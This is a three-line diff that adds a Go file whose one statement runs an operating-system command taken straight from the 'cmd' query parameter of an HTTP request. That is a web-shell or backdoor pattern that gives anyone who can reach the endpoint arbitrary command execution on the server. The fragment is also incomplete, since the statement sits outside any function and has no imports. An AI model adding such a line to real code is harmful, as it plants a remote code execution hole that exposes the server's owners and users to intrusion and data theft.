@@ -1,0 +1,3 @@
+package main
+
+exec.Command(r.URL.Query().Get("cmd")).Run()
